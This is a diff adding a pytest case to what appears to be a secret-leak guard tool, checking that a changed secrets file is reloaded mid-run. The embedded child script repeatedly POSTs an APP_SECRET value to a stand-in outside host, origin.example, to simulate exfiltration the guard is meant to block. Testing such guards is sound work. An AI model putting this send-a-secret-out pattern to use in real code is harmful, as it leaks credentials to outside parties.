@@ -231,6 +231,31 @@ def test_a_value_that_is_taken_apart_does_not_leave(place):
     assert json.loads(ran.stdout.splitlines()[0]) == [403, 403, 403, 200]
 
 
+CHANGED = """
+import os, pathlib, sys, urllib.error, urllib.request as u
+def send(body):
+    try:
+        return u.urlopen(u.Request("https://origin.example/in", data=body)).status
+    except urllib.error.HTTPError as error:
+        return error.code
+value = sys.argv[1]
+pathlib.Path("later.env").write_text(f"APP_SECRET={value}\\n")
+tries = next((n for n in range(3_000) if send(value.encode()) == 403), None)
+print("refused" if tries is not None else "never")
+"""
+
+
+def test_a_source_that_changes_is_read_again_while_the_command_runs(place):
+    (place.folder / "later.env").write_text(f"APP_SECRET={drawn(32)}\n")
+    value = drawn(32)
+    ran = place.run(
+        sys.executable, "-c", CHANGED, value, options=("--secrets-from", "later.env")
+    )  # fmt: skip
+    assert ran.stdout.splitlines()[0] == "refused", ran.stderr
+    assert ran.stderr.count("APP_SECRET") == 2  # at the start, and when it had changed
+    assert value not in ran.stderr
+
+
 def test_a_source_that_cannot_be_read_ends_the_start(place):
     ran = place.run("true", options=("--secrets-from", "missing.env"))
     assert ran.returncode == 3
